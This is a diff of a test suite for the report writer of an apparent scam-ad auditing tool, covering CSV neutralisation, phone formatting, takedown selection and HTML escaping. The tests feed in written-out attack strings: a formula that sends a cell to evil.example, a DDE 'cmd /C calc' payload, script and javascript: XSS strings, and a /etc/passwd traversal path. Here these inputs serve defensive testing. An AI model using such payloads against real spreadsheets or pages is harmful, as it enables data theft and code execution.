@@ -1,15 +1,23 @@
+"""Report cells, platform selection, CSV files and the HTML page, on hand-made findings (no browser)."""
+
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from reports.csv_report import neutralise
-from reports.html_report import file_href, safe_url, write_reports
+from reports import ReportContext, write_bundle, write_reports
+from reports.cells import is_inert, neutralise, phone_as_shown, phone_number, phone_tel
+from reports.html_report import rel_href, safe_url
+from reports.platforms import report_reason, to_report
+from reports.trend import trend_chart
 
-T1 = "2024-05-01T02:00:00Z"
+T1 = "2024-05-01T02:00:00+00:00"
+PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
+       b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82")
 
 
 def finding(**kw: Any) -> dict[str, Any]:
@@ -26,144 +34,168 @@ def finding(**kw: Any) -> dict[str, Any]:
     return f
 
 
-def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as fh:
-        return list(csv.DictReader(fh))
+def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 BOM"
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))
+
+
+def read_dicts(path: Path) -> list[dict[str, str]]:
+    header, *rows = read_csv(path)
+    return [dict(zip(header, r, strict=True)) for r in rows]
 
 
 @pytest.mark.parametrize(
     ("value", "expected"),
-    [("=1+1", "'=1+1"), ("+31900", "'+31900"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
-     ("  =cmd", "'  =cmd"), ("\t=1", "'\t=1"), ("\rx", "'\rx"), ("Bel 0900", "Bel 0900"), (None, ""),
-     (3, "3")],
+    [("=1+1", "'=1+1"), ("+31900", "'+31900"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("  =cmd", "  '=cmd"),
+     ("\t=1", "'\t'=1"), ("\rx", "'\rx"), ("x;=cmd|' /C calc'!A0;x", "x;'=cmd|' /C calc'!A0;x"),
+     ("a,+b", "a,'+b"), ("a\n@x", "a\n'@x"), ('a"=b', "a\"'=b"), ("Bel 0900-1234 nu", "Bel 0900-1234 nu"),
+     (None, ""), (3, "3")],
 )  # fmt: skip
-def test_neutralise(value: Any, expected: str) -> None:
+def test_neutralise_holds_for_any_delimiter(value: Any, expected: str) -> None:
     assert neutralise(value) == expected
+    assert is_inert(neutralise(value)) and neutralise(neutralise(value)) == neutralise(value)
 
 
-def test_csv_formula_injection_neutralised(tmp_path: Path) -> None:
-    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")'
-    write_reports([finding(title=evil, text="@SUM(1)")], tmp_path)
-    (row,) = read_csv(tmp_path / "findings.csv")
-    assert row["title"] == "'" + evil and row["text"] == "'@SUM(1)"
-    (row,) = read_csv(tmp_path / "google_ads.csv")
-    assert row["ad_title"] == "'" + evil and row["ad_text"] == "'@SUM(1)"
-    assert row["phone_as_shown"] == "0900-1234567"
+def test_phone_cells_paste_as_the_number() -> None:
+    assert phone_number("+319001234567") == "0900 1234567"
+    assert phone_number("+3222345678") == "00 32 2 234 56 78"  # foreign: as dialled from NL
+    assert phone_tel("+319001234567") == "tel:+319001234567"
+    assert phone_as_shown("0900 1234 567", "+319001234567") == "0900 1234 567"
+    assert phone_as_shown("+31 88 123 4567", "+31881234567") == "00 31 88 123 4567"
+    # a bare digit run would become a spreadsheet number without its leading 0
+    assert phone_as_shown("0612345678", "+31612345678") == "06 12345678"
+    assert phone_as_shown("+31628449107", "+31628449107") == "06 28449107"
+    for cell in (phone_number("+319001234567"), phone_as_shown("+31 88 123 4567", "+31881234567")):
+        assert cell[0].isdigit() and " " in cell and "'" not in cell
 
 
-def test_platform_split(tmp_path: Path) -> None:
-    findings = [
-        finding(),
-        finding(engine="bing", platform="microsoft_advertising", domain="kpn-support.nl"),
-        finding(engine="duckduckgo", platform="microsoft_advertising", domain="kpn-bellen.nl"),
-        finding(kind="organic", platform="", domain="startpagina.nl", verdict="suspect", severity="medium"),
-    ]
-    paths = write_reports(findings, tmp_path)
-    assert [p.name for p in paths] == ["findings.csv", "google_ads.csv", "microsoft_advertising.csv",
-                                       "report.html"]  # fmt: skip
-    assert len(read_csv(tmp_path / "findings.csv")) == 4
-    assert [r["advertiser_domain"] for r in read_csv(tmp_path / "google_ads.csv")] == ["kpn-hulp.nl"]
-    ms = read_csv(tmp_path / "microsoft_advertising.csv")
-    assert sorted((r["engine"], r["advertiser_domain"]) for r in ms) == [
-        ("bing", "kpn-support.nl"),
-        ("duckduckgo", "kpn-bellen.nl"),
-    ]
-    assert set(ms[0]) >= {"advertiser_domain", "display_url", "landing_url", "ad_title", "ad_text",
-                          "phone_as_shown", "phone_e164", "number_type", "why", "engine", "query", "device",
-                          "captured_at_utc", "evidence_file", "evidence_sha256"}  # fmt: skip
+def test_csv_files_have_a_bom_and_every_field_quoted(tmp_path: Path) -> None:
+    write_reports([finding()], tmp_path)
+    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv"):
+        text = (tmp_path / name).read_bytes().decode("utf-8-sig")
+        header = text.splitlines()[0]
+        assert header.startswith('"') and header.endswith('"') and '","' in header
 
 
-def test_platform_csv_names_best_evidence(tmp_path: Path) -> None:
-    write_reports([finding(evidence_path="ev/r1.png", evidence_sha256="ab" * 32, html_path="ev/p.html")],
-                  tmp_path)  # fmt: skip
-    (row,) = read_csv(tmp_path / "google_ads.csv")
-    assert (row["evidence_file"], row["evidence_sha256"]) == ("ev/r1.png", "ab" * 32)
-    assert row["page_html_file"] == "ev/p.html"
+def test_no_cell_starts_a_formula_whichever_delimiter_splits_it(tmp_path: Path) -> None:
+    evil = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
+            "x;=cmd|' /C calc'!A0;x", "a,=1+1\tb|@x"]  # fmt: skip
+    write_reports([finding(title=t, text=t, e164=f"+3190012345{i}") for i, t in enumerate(evil)], tmp_path)
+    for name in ("findings.csv", "google_ads.csv"):
+        for delimiter in (",", ";", "\t", "|"):
+            for row in read_csv(tmp_path / name, delimiter):
+                for cell in row:
+                    assert not cell.lstrip(" \"").startswith(("=", "+", "-", "@")), (name, delimiter, cell)
+    rows = read_dicts(tmp_path / "google_ads.csv")
+    assert {r["ad_headline"] for r in rows} == {neutralise(t) for t in evil}
 
 
-def test_empty_platform_files_have_a_header(tmp_path: Path) -> None:
-    write_reports([], tmp_path)
-    assert (tmp_path / "google_ads.csv").read_text().startswith("advertiser_domain,")
-    assert "No findings." in (tmp_path / "report.html").read_text()
+def test_platform_csv_columns_and_values(tmp_path: Path) -> None:
+    officials = {"KPN": [{"e164": "+318000234567", "source_url": "https://www.kpn.com/contact", "published": 1}]}
+    f = finding(id="f1", advertiser_domain="kpn-echt.nl", domain="googleadservices.com", status="new")
+    write_reports([f], tmp_path, context=ReportContext(officials=officials))
+    (row,) = read_dicts(tmp_path / "google_ads.csv")
+    assert row["report_id"] == "f1" and row["report_reason"] == "new"
+    assert row["advertiser_domain"] == "kpn-echt.nl"  # the landing page's real domain, not the tracker's
+    assert (row["phone_number"], row["phone_tel"], row["phone_as_shown"]) == (
+        "0900 1234567", "tel:+319001234567", "0900-1234567")
+    assert row["brand_official_numbers"] == "0800 0234567" and row["brand_official_source"] == "https://www.kpn.com/contact"
+    assert row["search_engine"].startswith("Google") and row["country"] == "NL" and row["seen_at_utc"] == T1
+    assert row["ad_click_url_not_visited"].startswith("https://www.googleadservices.com/")
+    assert read_dicts(tmp_path / "microsoft_advertising.csv") == []
 
 
-def test_html_escapes_attacker_text(tmp_path: Path) -> None:
-    write_reports([finding(text="<script>alert('x')</script>", title='"><img src=x onerror=alert(1)>')],
-                  tmp_path)  # fmt: skip
-    html = (tmp_path / "report.html").read_text()
+def test_only_new_or_reopened_undismissed_ads_go_to_a_platform_and_never_twice() -> None:
+    now = "2024-05-20T02:00:00+00:00"
+    fs = [
+        finding(id="new", status="new"), finding(id="reopened", status="reopened"),
+        finding(id="recurring", status="recurring"), finding(id="dismissed", status="new", state="dismissed"),
+        finding(id="inconclusive", status="new", verdict="inconclusive"),
+        finding(id="organic", status="new", kind="organic", platform=""),
+        finding(id="sent-lately", status="new"), finding(id="sent-long-ago", status="recurring", state="reported"),
+        finding(id="reported-lately", status="recurring", state="reported"),
+        finding(id="bing", status="new", engine="bing", platform="microsoft_advertising"),
+    ]  # fmt: skip
+    sent = {("sent-lately", "google_ads"): "2024-05-18T02:00:00+00:00",
+            ("sent-long-ago", "google_ads"): "2024-05-01T02:00:00+00:00",
+            ("reported-lately", "google_ads"): "2024-05-19T02:00:00+00:00"}  # fmt: skip
+    ctx = ReportContext(now=now, sent=sent, followup_days=7)
+    chosen = {f["id"]: f["report_reason"] for f in to_report(fs, "google_ads", ctx)}
+    assert chosen == {"new": "new", "reopened": "reopened", "sent-long-ago": "still live 19 days after the report"}
+    assert [f["id"] for f in to_report(fs, "microsoft_advertising", ctx)] == ["bing"]
+    # a finding without lifecycle fields (older store) counts as new
+    assert report_reason(finding(), None, 7, now) == "new"
+
+
+def _bundle_with_evidence(tmp_path: Path, **kw: Any):
+    ev = tmp_path / "store" / "run1"
+    ev.mkdir(parents=True)
+    (ev / "crop.png").write_bytes(PNG)
+    (ev / "shot.png").write_bytes(PNG)
+    (ev / "page.html").write_text("<script>alert(1)</script>", encoding="utf-8")
+    f = finding(id="f1", status="new", evidence_path=str(ev / "crop.png"), screenshot_path=str(ev / "shot.png"),
+                html_path=str(ev / "page.html"), **kw)  # fmt: skip
+    return write_bundle([f], tmp_path / "out")
+
+
+def test_html_inlines_the_crop_and_never_links_the_raw_page(tmp_path: Path) -> None:
+    _bundle_with_evidence(tmp_path, html_safe_path="", state="reported")
+    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
+    assert 'src="data:image/png;base64,' in html
+    assert 'href="evidence/run1-shot.png"' in html
+    assert "run1-page.html" in html and 'href="evidence/run1-page.html"' not in html
+    assert "reported, still live" in html and "badge-new" in html
+    assert str(tmp_path) not in html  # relative paths only
+
+
+def test_html_escapes_attacker_text_and_links_only_http(tmp_path: Path) -> None:
+    write_reports([finding(text="<script>alert('x')</script>", title='"><img src=x onerror=alert(1)>'),
+                   finding(e164="+31201234567", landing_url="javascript:alert(document.cookie)"),
+                   finding(e164="+31201234568", landing_url="https://kpn-hulp.nl/bel?a=1&b=2")], tmp_path)
+    html = (tmp_path / "report.html").read_text(encoding="utf-8")
     assert "<script>alert" not in html and "&lt;script&gt;alert" in html
-    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
-
-
-def test_javascript_landing_url_is_not_a_link(tmp_path: Path) -> None:
-    write_reports(
-        [
-            finding(landing_url="javascript:alert(document.cookie)"),
-            finding(e164="+31201234567", landing_url="https://kpn-hulp.nl/bel?a=1&b=2"),
-        ],
-        tmp_path,
-    )
-    html = (tmp_path / "report.html").read_text()
-    assert 'href="javascript:' not in html.lower()
-    assert "javascript:alert(document.cookie)" in html  # shown as text
+    assert "<img src=x" not in html
+    assert 'href="javascript:' not in html.lower() and "javascript:alert(document.cookie)" in html
     assert 'href="https://kpn-hulp.nl/bel?a=1&amp;b=2"' in html
     assert "googleadservices" in html and 'href="https://www.googleadservices' not in html  # never linked
+    assert "<details" in html  # click URLs fold away
 
 
-def test_safe_url() -> None:
+def test_the_night_in_words_counts_once(tmp_path: Path) -> None:
+    run = {"id": "r1", "command": "run", "status": "incomplete", "started_at": T1,
+           "summary": {"captures": {"ok": 4, "captcha": 1}, "findings": 1}}  # fmt: skip
+    blocked = [{"brand": "ING", "engine": "google", "query": "ING klantenservice", "device": "mobile",
+                "status": "captcha", "captured_at": T1}]  # fmt: skip
+    bundle = write_bundle([finding(status="new"), finding(e164="+31201234567", verdict="inconclusive",
+                                                          status="recurring")],
+                          tmp_path, run=run, blocked=blocked, context=ReportContext(brands=("KPN", "ING")))
+    lines = bundle.summary.splitlines()
+    assert lines[1] == "2 brands searched, 5 result pages: 4 audited, 1 NOT audited (1 captcha)."
+    assert lines[2] == "2 findings (1 scam, 1 inconclusive); 1 new, 1 recurring."
+    assert lines[3] == "To report: Google Ads 1 ad, Microsoft Advertising 0 ads."
+    assert bundle.subject == "serpaudit 2024-05-01: 2 findings, 1 not audited"
+    html = (tmp_path / "report.html").read_text(encoding="utf-8")
+    assert "{" not in html.split("<body>")[1].split("<svg")[0]  # no Python dicts printed
+    assert html.index('id="not-audited"') > html.index('id="takedowns"') > html.index('id="findings"')
+
+
+def test_trend_chart_covers_30_nights_per_engine() -> None:
+    chart = trend_chart([("2024-05-01", "google", 3), ("2024-04-20", "bing", 1), ("2024-03-01", "google", 9)],
+                        "2024-05-01T02:00:00+00:00")  # fmt: skip
+    assert (chart.first, chart.last, chart.nights) == ("2024-04-02", "2024-05-01", 30)
+    totals = {s.engine: s.total for s in chart.series}
+    assert totals == {"google": 3, "bing": 1, "duckduckgo": 0}  # March is outside the window
+    assert all(len(s.points.split()) == 30 for s in chart.series)
+
+
+def test_safe_url_and_rel_href() -> None:
     assert safe_url("https://x.nl/a") == "https://x.nl/a"
-    for bad in (
-        "javascript:alert(1)",
-        " JavaScript:alert(1)",
-        "data:text/html,x",
-        "//x.nl",
-        "x.nl",
-        None,
-        'https://x.nl/"onmouseover=alert(1)',
-    ):
+    for bad in ("javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "//x.nl", "x.nl", None,
+                'https://x.nl/"onmouseover=alert(1)'):  # fmt: skip
         assert safe_url(bad) is None
-
-
-def test_html_groups_by_brand_and_lists_blocked_captures(tmp_path: Path) -> None:
-    ev = tmp_path / "evidence" / "cap 1.png"
-    findings = [
-        finding(brand="Odido", verdict="suspect", severity="medium", evidence_path=str(ev)),
-        finding(brand="KPN"),
-    ]
-    blocked = [
-        {
-            "brand": "ING",
-            "engine": "google",
-            "query": "ING klantenservice",
-            "device": "mobile",
-            "status": "captcha",
-            "captured_at": T1,
-            "html_path": str(tmp_path / "evidence" / "c.html"),
-        }
-    ]
-    run = {
-        "id": "abc123",
-        "command": "nightly",
-        "status": "ok",
-        "started_at": T1,
-        "finished_at": T1,
-        "summary": {"captures": 3},
-    }
-    write_reports(findings, tmp_path / "out", run=run, blocked=blocked)
-    html = (tmp_path / "out" / "report.html").read_text()
-    assert html.index(">KPN <") < html.index(">Odido <")
-    assert 'class="badge badge-scam"' in html and 'class="badge badge-suspect"' in html
-    assert "NOT audited" in html and "captcha" in html and "ING klantenservice" in html
-    assert 'href="../evidence/cap%201.png"' in html
-    # the captured page is linked as its sanitised copy, never the raw file (its scripts would run)
-    assert 'href="../evidence/c.safe.html"' in html and 'href="../evidence/c.html"' not in html
-    assert "abc123" in html
-
-
-def test_file_href_relative_to_report(tmp_path: Path) -> None:
-    assert file_href("caps/a.png", tmp_path / "out", tmp_path) == "../caps/a.png"
-    assert file_href(tmp_path / "out" / "x.png", tmp_path / "out") == "x.png"
-    assert file_href("", tmp_path) is None
+    assert rel_href("evidence/a b.png") == "evidence/a%20b.png"
+    assert rel_href("/etc/passwd") is None and rel_href("../x") is None and rel_href("C:/x") is None
 
 
 def test_output_is_deterministic(tmp_path: Path) -> None:
@@ -171,10 +203,5 @@ def test_output_is_deterministic(tmp_path: Path) -> None:
                 for g in ("bing", "google")]  # fmt: skip
     write_reports(findings, tmp_path / "a")
     write_reports(list(reversed(findings)), tmp_path / "b")
-    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv", "report.html"):
-        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
-    rows = read_csv(tmp_path / "a" / "findings.csv")
-    assert [(r["brand"], r["e164"], r["engine"]) for r in rows][:2] == [
-        ("KPN", "'+311", "bing"),
-        ("KPN", "'+311", "google"),
-    ]
+    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv", "google_ads.zip", "report.html"):
+        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name
